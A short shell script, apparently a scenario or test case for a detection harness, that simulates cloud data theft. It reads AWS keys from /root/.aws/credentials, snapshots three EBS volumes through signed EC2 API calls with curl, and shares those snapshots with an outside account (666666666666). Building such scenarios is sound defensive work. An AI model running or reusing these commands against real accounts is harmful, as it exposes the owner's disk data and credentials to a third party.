#!/bin/sh
. /opt/case/case.sh

id=$(awk -F' = ' '/key_id/ { print $2 }' /root/.aws/credentials); key=$(awk -F' = ' '/secret/ { print $2 }' /root/.aws/credentials)
for v in 01 02 03; do
    for a in "CreateSnapshot&VolumeId=vol-$v" "ModifySnapshotAttribute&SnapshotId=snap-$v&Attribute=createVolumePermission&OperationType=add&UserId.1=666666666666"; do
        curl -sf --user "$id:$key" --aws-sigv4 aws:amz:eu-west-1:ec2 "http://ec2.eu-west-1.amazonaws.com/?Action=$a&Version=2016-11-15" >/dev/null
    done
done
took_place
